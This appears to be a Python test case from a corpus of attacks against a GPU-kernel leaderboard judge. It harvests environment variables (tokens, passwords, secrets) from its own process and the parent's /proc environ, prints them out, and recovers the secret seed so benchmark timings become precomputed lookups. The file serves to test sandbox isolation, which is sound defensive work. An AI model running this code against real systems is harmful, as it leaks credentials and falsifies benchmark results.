"""Reads the leaderboard's secret seed from the environment: its own, then the judge's.

Class: reading the secret seed from the environment (own and the parent's, through /proc)
Expected: error

A runner keeps its configuration in environment variables (``KERNELRANK_*``: database URL,
broker URL, tokens, and on some set-ups the secret seed itself). The submission looks at
``os.environ`` and then at ``/proc/<parent>/environ`` of the judge (readable to the same user, or
to root, when nothing isolates the child; a real attacker goes on up every ancestor), prints every
``KERNELRANK_*`` value it finds (stdout is shown to the submitter: exfiltration), and tries each
number it found as the secret: the right one regenerates the input it was given on the first call
of a benchmark case. With it, the warm-up call precomputes the next input sets of the case and
every timed call is a table lookup (microseconds), honest only on a miss.

A working defence gives the child a clean environment and hides its ancestors (another user, a PID
namespace); the attack then finds nothing and raises.
"""

import hashlib
import math
import os
import re

import torch

# public: problems/gemm/problem.yaml benchmarks, (M, N, K) -> seed
_CASES = {
    (512, 512, 512): 2001, (16, 4096, 1024): 2002, (128, 2048, 1024): 2003, (255, 1000, 777): 2004,
    (8192, 8192, 8192): 3001, (4096, 4096, 4096): 3002, (1, 4096, 4096): 3003, (16, 4096, 4096): 3004,
    (128, 4096, 4096): 3005, (16, 14336, 4096): 3006, (16, 4096, 14336): 3007, (128, 7168, 2048): 3008,
}
_AHEAD = 12
_table = {}
_tried = set()
_secret = []


def _mix(secret, seed, iteration):  # the harness's derivation (public source)
    digest = hashlib.blake2b(f"{secret}:{seed}:{iteration}".encode(), digest_size=8).digest()
    return int.from_bytes(digest, "little") >> 1


def _generate(M, N, K, seed, device):  # reference_kernels/gemm/reference.py (public)
    gen = torch.Generator(device=device).manual_seed(seed)
    a = torch.randn(M, K, generator=gen, device=device, dtype=torch.float32)
    b = torch.randn(K, N, generator=gen, device=device, dtype=torch.float32)
    b.mul_(1.0 / math.sqrt(K))
    return a.to(torch.bfloat16).contiguous(), b.to(torch.bfloat16).contiguous()


def _fingerprint(a, b):
    return a.reshape(-1)[:32].float().cpu().numpy().tobytes() + b.reshape(-1)[:32].float().cpu().numpy().tobytes()


def _environments():
    """This process's environment and the judge's (its parent), read through ``/proc``.

    A real attacker walks every ancestor; the corpus stops at the judge so that running it never
    reads the environment of whatever started the judge."""
    blocks = [dict(os.environ)]
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
        blocks.append(dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv))
    except OSError:
        pass
    return blocks


def _loot():
    loot = {}
    for env in _environments():
        for k, v in env.items():
            if k.startswith("KERNELRANK_") or "SECRET" in k or "TOKEN" in k or "PASSWORD" in k:
                loot[k] = v
    for k, v in sorted(loot.items()):
        print(f"[attack] {k}={v}", flush=True)
    numbers = []
    for k, v in loot.items():
        numbers += [int(n) for n in re.findall(r"\d{6,19}", v)]
    return sorted(set(numbers), key=lambda n: -len(str(n)))


def custom_kernel(data):
    a, b = data
    out = _table.get(_fingerprint(a, b))
    if out is not None:
        return out
    key = (a.shape[0], b.shape[1], a.shape[1])
    seed = _CASES.get(key)
    if seed is not None and key not in _tried:  # first call of a benchmark case: the warm-up
        _tried.add(key)
        if not _secret:
            for candidate in _loot()[:64]:
                if any(torch.equal(_generate(*key, _mix(candidate, seed, it), a.device)[0], a) for it in (0, 1)):
                    _secret.append(candidate)
                    print(f"[attack] the secret seed of this run is {candidate}", flush=True)
                    break
            else:
                raise RuntimeError("no secret seed in any environment this process can read")
        for iteration in range(_AHEAD + 1):
            ai, bi = _generate(*key, _mix(_secret[0], seed, iteration), a.device)
            _table[_fingerprint(ai, bi)] = torch.mm(ai, bi)
        out = _table.get(_fingerprint(a, b))
        if out is not None:
            return out
    return torch.mm(a, b)
